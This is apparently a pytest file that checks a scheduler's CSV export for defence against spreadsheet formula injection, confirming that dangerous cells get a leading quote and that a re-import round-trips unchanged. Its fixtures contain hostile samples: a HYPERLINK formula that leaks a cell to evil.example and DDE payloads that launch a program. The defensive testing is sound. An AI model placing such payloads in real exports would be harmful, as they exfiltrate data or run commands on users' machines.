"""CSV exports never carry a spreadsheet formula: imported text is neutralised on export
(a leading ') and a re-import of the export gives back the same units."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from scheduler.grants.csv_cells import neutralise, restore
from scheduler.grants.rollout import export_csv, import_csv
from scheduler.models import Endpoint
from tests.scheduler.conftest import World

NOW = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)
DANGEROUS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "@SUM(1+1)*cmd|' /C calc'!A0",
             "+420 123 456", "-2+3", "\t=1+1", "\r=1+1"]


def csv_of(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out).writerows([["serial", "model", "site", "organisation", "status"], *rows])
    return out.getvalue()


def test_imported_formulas_are_neutralised_on_export_and_reimport_unchanged(world: World) -> None:
    operator = world.principal("operator")
    # The import strips surrounding blanks: a tab or CR survives inside a value only.
    sites = [*DANGEROUS[:4], "Sál\t=1+1", "Zasedačka 'A'"]
    rows = [[f"SN-{i}", "=cmd|' /C calc'!A0" if i == 0 else "Poly X30", site,
             "t:region A", "requested"] for i, site in enumerate(sites)]
    rows.append(["=SN-EVIL", "-X", "'=already quoted'", "t:region A", "requested"])
    with world.db.session() as session:
        assert import_csv(session, operator, csv_of(rows), NOW) == {"created": 7, "updated": 0}
    with world.db.session() as session:
        stored = {e.serial: (e.model, e.site) for e in session.query(Endpoint)}
        exported = export_csv(session)
    assert stored["SN-0"] == ("=cmd|' /C calc'!A0", DANGEROUS[0])  # stored as typed
    table = list(csv.reader(io.StringIO(exported)))
    for row in table[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (row, cell)
    by_serial = {row[0]: row for row in table[1:]}
    assert by_serial["SN-0"][1:3] == ["'=cmd|' /C calc'!A0", "'" + DANGEROUS[0]]
    assert by_serial["SN-2"][2] == "'+420 123 456" and by_serial["SN-3"][2] == "'-2+3"
    assert by_serial["SN-4"][2] == "Sál\t=1+1"  # not at the start: no formula
    assert by_serial["'=SN-EVIL"][1:3] == ["'-X", "'=already quoted'"]

    # The export, imported again as it is, changes nothing.
    with world.db.session() as session:
        assert import_csv(session, operator, exported, NOW) == {"created": 0, "updated": 7}
    with world.db.session() as session:
        assert {e.serial: (e.model, e.site) for e in session.query(Endpoint)} == stored
        assert export_csv(session) == exported


def test_every_formula_start_is_neutralised_and_restored() -> None:
    for value in DANGEROUS:
        assert neutralise(value) == "'" + value and restore(str(neutralise(value))) == value
    for value in ("Benešov", "", "'quoted", "a=b", 42, -5):
        assert neutralise(value) == value
    assert restore("'quoted") == "'quoted"
